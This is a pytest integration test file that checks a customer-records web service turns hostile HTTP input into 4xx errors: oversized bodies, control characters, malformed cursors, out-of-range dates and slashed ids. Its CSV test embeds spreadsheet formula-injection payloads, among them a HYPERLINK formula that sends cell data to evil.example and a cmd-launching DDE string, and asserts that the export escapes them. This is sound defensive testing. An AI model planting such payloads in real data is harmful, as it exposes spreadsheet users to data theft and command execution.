"""Hostile HTTP input never stops the service (issue 13): each case answers 4xx with a reason,
on both store backends, and what is allowed still works (ids with "/", "%" in a search)."""

from __future__ import annotations

import base64
from datetime import timedelta
from typing import Any

import pytest
from fastapi.testclient import TestClient

from domain.facts import ReportedFact
from projections import replay
from service import bootstrap
from tests.events import NOW
from tests.integration.conftest import Desk

pytestmark = pytest.mark.integration


def opened(customer: str, name: str, **data: Any) -> ReportedFact:
    return ReportedFact(f"{customer}-opened", "crm.account.opened", "tests", customer,
                        NOW - timedelta(days=3), {"name": name, **data})


def b64(text: bytes) -> str:
    return base64.urlsafe_b64encode(text).decode()


# --- the body limit ------------------------------------------------------------------------

def test_a_body_over_the_limit_without_a_key_is_413_before_any_key_check(
    desk: Desk, monkeypatch: pytest.MonkeyPatch,
) -> None:
    app = desk.client.app
    checked: list[str] = []
    real_verify = app.state.keys.verify
    monkeypatch.setattr(app.state.keys, "verify", lambda key: checked.append(key) or real_verify(key))
    anonymous = TestClient(app)
    huge = b"[" + b" " * (desk.settings.api_max_body_bytes + 1) + b"]"

    no_key = anonymous.post("/events", content=huge, headers={"Content-Type": "application/json"})
    assert no_key.status_code == 413, no_key.text
    assert "1 MiB (1,048,576 bytes)" in no_key.json()["detail"]
    wrong_key = anonymous.post("/events", content=huge, headers={"X-API-Key": "crm_00000000_x"})
    assert wrong_key.status_code == 413
    chunked = anonymous.post("/events", content=iter([huge[:700_000], huge[700_000:]]))
    assert chunked.status_code == 413 and "sent in chunks" in chunked.json()["detail"]
    assert checked == []  # no key was looked at
    # Under the limit the key check comes first, as before.
    assert anonymous.post("/events", content=b"[]").status_code == 401
    assert checked == []
    assert anonymous.post("/events", content=b"[]", headers={"X-API-Key": "crm_00000000_x"}
                          ).status_code == 401
    assert checked == ["crm_00000000_x"]


# --- control characters in paths and queries ---------------------------------------------------

@pytest.mark.parametrize("url", [
    "/customers?q=a%00b",
    "/customers/C-1%00",
    "/customers/C-1/timeline?channel=%00",
    "/customers/C-1/timeline?type=crm.order%0A",
    "/alerts?customer_id=%00",
    "/alerts?kind=%1B",
    "/reports/x%00",
])
def test_a_control_character_in_a_path_or_query_is_400_never_500(desk: Desk, url: str) -> None:
    answer = desk.client.get(url)
    assert answer.status_code == 400, answer.text
    assert "control characters are not allowed" in answer.json()["detail"]


# --- search -----------------------------------------------------------------------------------

@pytest.fixture
def searchable(desk: Desk) -> Desk:
    desk.record(opened("C-100", "100% Coffee", email="hello@coffee.example"),
                opened("C-200", "Snake_case Ltd", email="snake_case@example.org"),
                opened("C-300", "Plain Bakery", email="bakery@example.org"),
                opened("C-400", "Back\\slash & Co"))
    return desk


def found(desk: Desk, q: str) -> list[str]:
    answer = desk.client.get("/customers", params={"q": q})
    assert answer.status_code == 200, answer.text
    return [c["customer_id"] for c in answer.json()["customers"]]


def test_percent_and_underscore_in_a_search_match_only_themselves(searchable: Desk) -> None:
    assert found(searchable, "%") == ["C-100"]
    assert found(searchable, "_") == ["C-200"]
    assert found(searchable, "0%") == ["C-100"]
    assert found(searchable, "e_c") == ["C-200"]
    assert found(searchable, "snake_") == ["C-200"]  # the e-mail too
    assert found(searchable, "\\") == ["C-400"]
    assert found(searchable, "%%") == []
    assert found(searchable, "e%c") == []  # was: any name with an e before a c
    assert found(searchable, "ba") == ["C-300", "C-400"]  # plain searches unchanged


# --- cursors ------------------------------------------------------------------------------------

@pytest.mark.parametrize("cursor", [
    b64(b"\x00"),  # NUL: PostgreSQL cannot compare it with text (was 500)
    b64(b"C-1\x00"),
    b64(b"\xff\xfe"),  # not UTF-8
    b64(b"x" * 65),  # longer than any customer id
    "!!!!",  # not base64 (was: quietly decoded to nothing)
    "QUI",  # base64 without the padding we send
    "é",
])
def test_a_malformed_search_cursor_names_no_page(searchable: Desk, cursor: str) -> None:
    answer = searchable.client.get("/customers", params={"q": "c", "cursor": cursor})
    assert answer.status_code == 404, answer.text
    assert answer.json()["type"] == "/problems/not-found"
    assert "cursor" in answer.json()["detail"]


def test_a_search_cursor_we_returned_still_pages(searchable: Desk) -> None:
    first = searchable.client.get("/customers", params={"q": "example", "limit": 1}).json()
    assert first["next_cursor"]
    second = searchable.client.get("/customers", params={"q": "example", "limit": 1,
                                                         "cursor": first["next_cursor"]})
    assert second.status_code == 200
    assert second.json()["customers"][0]["customer_id"] > first["customers"][0]["customer_id"]


@pytest.mark.parametrize("cursor", [b64(b"\x00:1"), b64(b"1:2:3"), b64(b"a:1"), "!!!!"])
def test_a_malformed_timeline_cursor_names_no_page(searchable: Desk, cursor: str) -> None:
    answer = searchable.client.get("/customers/C-100/timeline", params={"cursor": cursor})
    assert answer.status_code == 404, answer.text
    assert "cursor" in answer.json()["detail"]


@pytest.mark.parametrize("cursor", [b64(b"99999999999999999999999:1"),
                                    b64(b"1:99999999999999999999999")])
def test_a_timeline_cursor_beyond_64_bits_is_no_server_error(searchable: Desk, cursor: str) -> None:
    # SQLite cannot take the number as a parameter (was 500), and no cursor of ours holds
    # more than a BIGINT: no page, 404, on both backends.
    answer = searchable.client.get("/customers/C-100/timeline", params={"cursor": cursor})
    assert answer.status_code == 404, answer.text
    assert "cursor" in answer.json()["detail"]


# --- times -------------------------------------------------------------------------------------

@pytest.mark.parametrize(("path", "name", "value"), [
    ("/customers/C-100", "as_of", "0001-01-01T00:00:00Z"),
    ("/customers/C-100/loyalty", "as_of", "0001-06-01T00:00:00+00:00"),
    ("/customers/C-100/loyalty", "as_of", "1899-12-31T23:59:59Z"),
    ("/customers/C-100", "as_of", "9999-12-31T23:59:59-23:59"),
    ("/customers/C-100/timeline", "since", "0001-01-01T00:00:00Z"),
    ("/customers/C-100/timeline", "until", "9999-12-31T23:59:59Z"),
])
def test_times_outside_1900_to_9000_are_refused_with_the_range(
    searchable: Desk, path: str, name: str, value: str,
) -> None:
    answer = searchable.client.get(path, params={name: value})
    assert answer.status_code == 422, answer.text
    assert answer.headers["content-type"] == "application/problem+json"
    assert answer.json()["type"] == "/problems/validation-error"
    (problem,) = answer.json()["errors"]
    assert problem["loc"] == ["query", name]
    assert name in answer.json()["detail"]
    assert "1900-01-01T00:00:00Z and 9000-01-01T00:00:00Z" in problem["msg"]


def test_times_inside_the_range_still_read(searchable: Desk) -> None:
    client = searchable.client
    assert client.get("/customers/C-100", params={"as_of": NOW.isoformat()}).status_code == 200
    assert client.get("/customers/C-100/loyalty",
                      params={"as_of": "8999-12-31T00:00:00Z"}).status_code == 200
    page = client.get("/customers/C-100/timeline", params={"since": "1900-01-01T00:00:00Z"})
    assert page.status_code == 200 and len(page.json()["entries"]) == 1


# --- customer ids holding "/" -------------------------------------------------------------------

SLASHED = "shop/de/4711"


def test_a_customer_id_holding_slashes_is_read_in_every_path(desk: Desk) -> None:
    desk.record(opened(SLASHED, "Slash Customer"),
                ReportedFact("slash-order", "crm.order.placed", "tests", SLASHED,
                             NOW - timedelta(days=1),
                             {"order_id": "O-1", "amount": "10.00", "currency": "EUR", "items": []}),
                opened("shop", "Not the one"))
    client = desk.client
    for encoded in ("shop%2Fde%2F4711", SLASHED):  # as the console sends it, and as typed
        view = client.get(f"/customers/{encoded}")
        assert view.status_code == 200, view.text
        assert view.json()["customer_id"] == SLASHED and view.json()["orders"]["count"] == 1
        loyalty = client.get(f"/customers/{encoded}/loyalty")
        assert loyalty.status_code == 200 and loyalty.json()["customer_id"] == SLASHED
        timeline = client.get(f"/customers/{encoded}/timeline")
        assert timeline.status_code == 200, timeline.text
        assert timeline.json()["customer_id"] == SLASHED
        assert [e["type"] for e in timeline.json()["entries"]] == ["crm.order.placed",
                                                                    "crm.account.opened"]
    assert client.get("/customers/shop").json()["profile"]["name"] == "Not the one"
    assert client.get("/customers/shop%2Fde").status_code == 404
    assert client.get(f"/customers/{'x/' * 32}y").status_code == 422  # 65 characters
    assert found(desk, "shop/") == [SLASHED]
    # An alert id holds a complaint id, which may hold "/" too: it reaches the route.
    missing = client.post("/alerts/sla:K%2F1:resolution:0:breach/ack")
    assert missing.status_code == 404 and "sla:K/1:resolution:0:breach" in missing.json()["detail"]


def test_a_customer_id_in_a_path_is_compared_in_unicode_nfc(desk: Desk) -> None:
    desk.record(opened("Caf\u00e9-1", "Ana"))  # stored as the consumer stores ids: NFC
    view = desk.client.get("/customers/Cafe\u0301-1")  # typed with a combining accent
    assert view.status_code == 200, view.text
    assert view.json()["customer_id"] == "Caf\u00e9-1" and "resolved_from" not in view.json()
    assert desk.client.get("/customers/Cafe\u0301-1/timeline").json()["entries"]


def test_the_openapi_document_names_the_path_parameters_plainly(desk: Desk) -> None:
    paths = desk.client.get("/openapi.json").json()["paths"]
    assert "/customers/{customer_id}/timeline" in paths
    assert "/admin/customers/{customer_id}/erase" in paths
    assert not [p for p in paths if ":path" in p]
    body = paths["/events"]["post"]["requestBody"]["content"]["application/json"]["schema"]
    assert {"$ref": "#/components/schemas/IncomingEvent"} in body["anyOf"]
    schemas = desk.client.get("/openapi.json").json()["components"]["schemas"]
    assert "subject" in schemas["OrderPlacedEvent"]["properties"]


# --- CSV ---------------------------------------------------------------------------------------

def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_escaped(desk: Desk) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    desk.record(opened("C-1", "Eve", acquisition_channel=formula),
                opened("C-2", "Adam", acquisition_channel="@SUM(1+1)*cmd|' /C calc'!A0"),
                *(ReportedFact(f"o-{c}", "crm.order.placed", "tests", c, NOW - timedelta(days=1),
                               {"order_id": "O-1", "amount": "25.00", "currency": "EUR",
                                "items": []}) for c in ("C-1", "C-2")))
    catalog = bootstrap.build_catalog(desk.settings, desk.history, desk.views)
    assert replay.replay(catalog, "lifetime_value_by_channel").state == "swapped"
    as_json = desk.client.get("/reports/lifetime_value_by_channel").json()
    assert formula in [row["channel"] for row in as_json["rows"]]  # JSON keeps the value as is

    lines = desk.client.get("/reports/lifetime_value_by_channel?format=csv").text.splitlines()
    cells = [line.split(",")[0] for line in lines[1:]]
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1' in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert not [c for c in cells if c.lstrip('"').startswith(("=", "+", "-", "@"))]
    eve = next(line for line in lines if "HYPERLINK" in line)
    assert ",1,EUR,25.00,25.00," in eve  # numbers stay numbers


# --- security headers -----------------------------------------------------------------------

def test_every_answer_has_the_security_headers(desk: Desk) -> None:
    anonymous = TestClient(desk.client.app)
    for answer in (anonymous.get("/"), anonymous.get("/static/console.js"),
                   anonymous.get("/customers/C-1"), desk.client.get("/customers/C-404"),
                   anonymous.get("/healthz"), anonymous.get("/customers?q=%00"),
                   anonymous.post("/events", content=b" " * (2 << 20))):
        assert answer.headers["content-security-policy"] == (
            "default-src 'self'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'"
        ), answer.request.url
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["referrer-policy"] == "no-referrer"
    docs = anonymous.get("/docs")
    assert docs.status_code == 200 and "https://cdn.jsdelivr.net" in docs.text
    assert "https://cdn.jsdelivr.net" in docs.headers["content-security-policy"]
    assert "frame-ancestors 'none'" in docs.headers["content-security-policy"]
    assert "cdn.jsdelivr.net" in anonymous.get("/redoc").headers["content-security-policy"]
